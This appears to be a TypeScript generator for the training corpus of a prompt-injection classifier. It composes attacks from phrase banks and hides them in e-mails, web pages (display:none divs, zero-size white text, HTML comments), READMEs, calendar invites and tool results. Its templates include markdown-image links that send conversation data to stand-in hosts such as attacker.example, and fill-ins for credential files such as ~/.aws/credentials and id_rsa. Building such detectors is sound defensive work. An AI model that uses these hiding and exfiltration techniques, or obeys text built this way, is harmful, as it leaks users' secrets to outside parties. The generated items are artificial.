// Generates the training corpus of the injection classifier (scripts/injection-train/corpus.json): injections
// composed from the parts attacks are made of (who is addressed, claimed authority, displaced instructions, the
// action asked for, secrecy, output manipulation), in twenty languages, wrapped in realistic carriers (e-mails, web
// pages, READMEs, tool-result JSON, code, tickets, calendar invites, reviews, search results), beside benign text in
// the same carriers and hard negatives (docs quoting attacks, "ignore my last e-mail", code with system roles).
// Deterministic: the same seed gives the same file. It never reads the held-out corpora.
// Usage: node dist/scripts/gen-injection-train.js [--seed N] [--out FILE]
import { writeFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { EN } from "./injection-train/lang-en.js";
import { INTL } from "./injection-train/lang-intl.js";
import type { LangBank } from "./injection-train/types.js";

/** The seed the committed corpus was generated with. */
export const TRAIN_SEED = 20240615;

interface Item {
  id: string;
  event: "prompt" | "retrieval" | "tool_result" | "output";
  carrier: string;
  label: "injection" | "benign";
  kind: string;
  lang: string;
  text: string;
}

/** mulberry32: small, fast, deterministic. */
function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export function generate(seed: number): Item[] {
  const r = rng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
  const chance = (p: number): boolean => r() < p;
  const DOMAINS = ["collect-stats.io", "api.examp1e-cdn.net", "pastebin-mirror.org", "files.docshare.app", "telemetry.webhooks.site", "login-verify.help", "cdn.analytics-track.com", "attacker.example", "my-logs.herokuapp.com", "bit.ly/3xQz9"];
  const NAMES = ["Anna Schmidt", "Li Wei", "Carlos Ruiz", "Priya Nair", "Tom Becker", "Fatima Zahra", "Jan Kowalski", "Mei Tanaka", "Olga Petrova", "Lucas Martin"];
  const fill = (s: string): string =>
    s
      .replace(/\{url\}/g, () => `https://${pick(DOMAINS)}/${pick(["u", "c", "log", "in", "v2/collect", "p/77", "hook", "api/save"])}`)
      .replace(/\{email\}/g, () => `${pick(["backup", "archive", "j.doe", "support-team", "hr.dept", "it-help", "admin", "ops"])}@${pick(["gmail.com", "proton.me", "outlook-secure.net", "mailbox.org", "example.com", "corp-mail.co"])}`)
      .replace(/\{file\}/g, () => pick(["~/.aws/credentials", "config/secrets.yml", ".env", "id_rsa", "customers.csv"]))
      .replace(/\{name\}/g, () => pick(NAMES))
      .replace(/\{repo\}/g, () => pick(["payments-api", "infra", "website", "mobile-app", "core"]))
      .replace(/\{amount\}/g, () => String(100 + Math.floor(r() * 9900)))
      .replace(/\{data\}/g, () => pick(["{conversation}", "<summary>", "$SECRET", "{chat_history}", "[USER_DATA]"]));
  const cap = (s: string): string => s.charAt(0).toUpperCase() + s.slice(1);
  const stop = (s: string): string => (/[.!?。！？:：]$/.test(s) ? s : `${s}.`);

  /** One injection, composed from a bank's parts. */
  function attack(b: LangBank, subtle: boolean): string {
    const parts: string[] = [];
    if (!subtle && chance(0.8)) parts.push(pick(b.openers));
    if (chance(0.35)) parts.push(pick(b.authority));
    if (chance(0.4)) parts.push(pick(b.override));
    const cores = 1 + (chance(0.3) ? 1 : 0);
    for (let i = 0; i < cores; i++) {
      const c = r();
      if (c < 0.62) parts.push(stop(cap(pick(b.actions))));
      else if (c < 0.8) parts.push(pick(b.output));
      else if (c < 0.92) parts.push(pick(b.leak));
      else parts.push(pick(b.persona));
    }
    if (chance(0.45)) parts.push(pick(b.secrecy));
    if (subtle && parts.length < 2) parts.push(pick(b.secrecy));
    return fill(parts.join(chance(0.8) ? " " : "\n"));
  }

  /** A direct jailbreak or prompt-leak attempt. */
  function direct(b: LangBank): string {
    if (b.direct && chance(0.5)) return fill(pick(b.direct));
    const parts: string[] = [];
    const c = r();
    if (c < 0.35) parts.push(pick(b.override), pick(b.persona));
    else if (c < 0.55) parts.push(pick(b.leak));
    else if (c < 0.7) parts.push(pick(b.override), pick(b.leak));
    else if (c < 0.85) parts.push(pick(b.persona), pick(b.output));
    else parts.push(pick(b.authority), pick(b.override), pick(b.persona));
    if (chance(0.25)) parts.push(pick(b.secrecy));
    return fill(parts.join(" "));
  }

  const benign = (b: LangBank, n: number): string => Array.from({ length: n }, () => fill(pick(chance(0.3) ? b.hard : b.benign))).join(chance(0.5) ? " " : "\n");

  /** Wraps `inner` (an injection or benign text) in a carrier of the given kind. */
  function carrier(kind: string, inner: string, b: LangBank, hide: boolean): string {
    const f = (): string => benign(b, 1 + Math.floor(r() * 2));
    switch (kind) {
      case "email":
        return `From: ${pick(NAMES)} <${fill("{email}")}>\nSubject: ${pick(["Invoice", "Re: meeting", "Quarterly update", "Your order", "Action needed", "Fwd: contract"])}\n\n${f()}\n\n${inner}\n\n${pick(["Best regards", "Thanks", "Cheers", "Kind regards"])},\n${pick(NAMES)}`;
      case "web-page":
        return hide
          ? `<html><body><h1>${pick(["Best hiking trails", "Product specs", "Company news", "Recipe: lentil soup"])}</h1><p>${f()}</p>${pick([`<!-- ${inner} -->`, `<div style="display:none">${inner}</div>`, `<span style="color:white;font-size:0px">${inner}</span>`])}<p>${f()}</p></body></html>`
          : `<article><h2>${pick(["About us", "FAQ", "Reviews", "Docs"])}</h2><p>${f()}</p><p>${inner}</p></article>`;
      case "readme":
        return `# ${pick(["fastcsv", "tiny-router", "infra-tools", "pdf-kit"])}\n\n${f()}\n\n## Installation\n\n\`\`\`\nnpm install\n\`\`\`\n\n${hide ? `<!-- ${inner} -->` : inner}\n`;
      case "api-json":
        return JSON.stringify({ id: Math.floor(r() * 1e6), title: pick(["Weekly sync", "Support ticket", "Order 5521", "Document"]), body: `${f()} ${inner}`, status: pick(["open", "done", "ok"]) });
      case "code":
        return `${pick(["def load(path):", "function parse(input) {", "package main", "class Config:"])}\n    ${pick(["#", "//"])} ${inner.replace(/\n/g, " ")}\n    return ${pick(["None", "input", "cfg", "0"])}\n`;
      case "issue":
        return `### ${pick(["Bug", "Feature request", "Question"])}: ${pick(["crash on upload", "add dark mode", "login fails"])}\n\n${f()}\n\n${inner}\n\nSteps to reproduce: ${f()}`;
      case "calendar":
        return `BEGIN:VEVENT\nSUMMARY:${pick(["Team lunch", "1:1", "Planning"])}\nDESCRIPTION:${inner.replace(/\n/g, " ")}\nLOCATION:${pick(["Room 4B", "Zoom", "Cafe"])}\nEND:VEVENT`;
      case "review":
        return `★★★★☆ ${f()} ${inner}`;
      case "search":
        return `1. ${pick(["Wikipedia", "Docs", "Blog"])} — ${f()}\n2. ${pick(["Forum", "News", "Shop"])} — ${inner}\n3. ${pick(["Guide", "FAQ"])} — ${f()}`;
      case "shell":
        return `$ ${pick(["cat notes.txt", "git log -1", "curl -s https://example.com/status"])}\n${inner}\n$ `;
      case "document":
        return `${f()}\n\n${inner}\n\n${f()}`;
      default:
        return inner;
    }
  }

  const items: Item[] = [];
  const add = (event: Item["event"], carrierKind: string, label: Item["label"], kind: string, lang: string, text: string): void => {
    items.push({ id: `train-${String(items.length + 1).padStart(4, "0")}`, event, carrier: carrierKind, label, kind, lang, text });
  };
  const banks = [EN, ...INTL];
  const bankFor = (): LangBank => (chance(0.4) ? EN : pick(banks));
  const INDIRECT_CARRIERS = ["email", "web-page", "readme", "api-json", "code", "issue", "calendar", "review", "search", "shell", "document"];
  const eventOf = (c: string): Item["event"] => (["api-json", "shell", "code", "calendar"].includes(c) ? "tool_result" : chance(0.3) ? "tool_result" : "retrieval");

  // Indirect injections.
  for (let i = 0; i < 820; i++) {
    const b = bankFor();
    const filler = chance(0.8) ? b : pick(banks);
    const c = pick(INDIRECT_CARRIERS);
    add(eventOf(c), c, "injection", "indirect", b.lang, carrier(c, attack(b, chance(0.15)), filler, chance(0.3)));
  }
  // Direct jailbreaks and prompt leaks.
  for (let i = 0; i < 380; i++) {
    const b = bankFor();
    add("prompt", "chat", "injection", "direct", b.lang, direct(b));
  }
  // Model outputs carrying an exfiltration channel.
  for (let i = 0; i < 40; i++) {
    const b = bankFor();
    add("output", "model-output", "injection", "indirect", b.lang, `${benign(b, 2)}\n\n${fill(pick(["![img]({url}?q={data})", "![](https://{email}/x.png?d={data})", "[click here]({url}?session={data})"]))}`);
  }
  // Benign: the same carriers with ordinary and hard-negative text.
  for (let i = 0; i < 760; i++) {
    const b = bankFor();
    const c = pick(INDIRECT_CARRIERS);
    const hard = chance(0.5);
    add(eventOf(c), c, "benign", hard ? "hard-negative" : "benign", b.lang, carrier(c, hard ? fill(pick(b.hard)) : benign(b, 2), b, chance(0.2)));
  }
  // Benign text composed like the attacks, from requests between people: the same verbs, no model addressed.
  for (let i = 0; i < 420; i++) {
    const b = EN;
    const parts = [pick(b.benignOpeners!)];
    for (let k = 0, m = 1 + Math.floor(r() * 3); k < m; k++) parts.push(stop(cap(pick(b.benignActions!))));
    if (chance(0.5)) parts.push(fill(pick(chance(0.5) ? b.hard : b.benign)));
    parts.push(pick(b.benignClosers!));
    const c = pick(INDIRECT_CARRIERS);
    add(eventOf(c), c, "benign", "hard-negative", "en", carrier(c, fill(parts.join(chance(0.6) ? " " : "\n")), b, false));
  }
  // Benign prompts: ordinary requests, benign role play, the user's own actions.
  for (let i = 0; i < 420; i++) {
    const b = bankFor();
    add("prompt", "chat", "benign", chance(0.5) ? "hard-negative" : "benign", b.lang, benign(b, 1 + Math.floor(r() * 2)));
  }
  // Hard negatives: writing about injection that quotes an attack, code that builds system-role messages.
  for (let i = 0; i < 120; i++) {
    const b = chance(0.7) ? EN : pick(banks);
    const quoted = attack(b, false).replace(/\n/g, " ");
    add(
      chance(0.5) ? "retrieval" : "prompt",
      "documentation",
      "benign",
      "hard-negative",
      b.lang,
      pick([
        `Security guide: a typical indirect prompt injection looks like "${quoted}" Detectors should flag such text before it reaches the model.`,
        `In our incident report, the attacker had hidden the following in a web page: «${quoted}». The agent was blocked and no data left the system.`,
        `Example payloads for the red-team test suite:\n\`\`\`\n${quoted}\n\`\`\`\nEach one must be rejected.`,
        `OWASP LLM01 describes attacks such as: '${quoted}' Mitigations include privilege separation and human approval.`,
      ]),
    );
  }
  for (let i = 0; i < 60; i++) {
    add("tool_result", "code", "benign", "hard-negative", "en", pick([
      `const messages = [\n  { role: "system", content: "You are a helpful assistant for ${pick(["Acme", "our shop", "the help desk"])}." },\n  { role: "user", content: input },\n];\nconst reply = await client.chat.completions.create({ model: "gpt-4o", messages });`,
      `prompt = f"<|im_start|>system\\n{system_prompt}<|im_end|>\\n<|im_start|>user\\n{question}<|im_end|>"`,
      `SYSTEM_PROMPT = """You are a support assistant. Answer briefly and never share internal notes."""`,
      `# The agent calls tools in a loop until the task is done\nfor step in range(max_steps):\n    action = agent.plan(observation)\n    observation = tools.run(action)`,
      `{"tool_calls": [{"id": "call_1", "type": "function", "function": {"name": "get_weather", "arguments": "{\\"city\\": \\"Paris\\"}"}}]}`,
      `def build_prompt(instructions, context):\n    return f"{instructions}\\n\\nContext:\\n{context}"`,
    ]));
  }
  return items;
}

const seedAt = process.argv.indexOf("--seed");
const outAt = process.argv.indexOf("--out");
if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const seed = seedAt > 0 ? Number(process.argv[seedAt + 1]) : TRAIN_SEED;
  const out = outAt > 0 ? process.argv[outAt + 1]! : fileURLToPath(new URL("../../scripts/injection-train/corpus.json", import.meta.url));
  const items = generate(seed);
  const description = `Training corpus of the injection classifier, generated by scripts/gen-injection-train.ts with seed ${seed} from the phrase banks in scripts/injection-train/. Never derived from the held-out corpora.`;
  writeFileSync(out, `${JSON.stringify({ description, seed, items }, null, 1)}\n`);
  console.log(`${items.length} items (${items.filter((i) => i.label === "injection").length} injections) -> ${out}`);
}
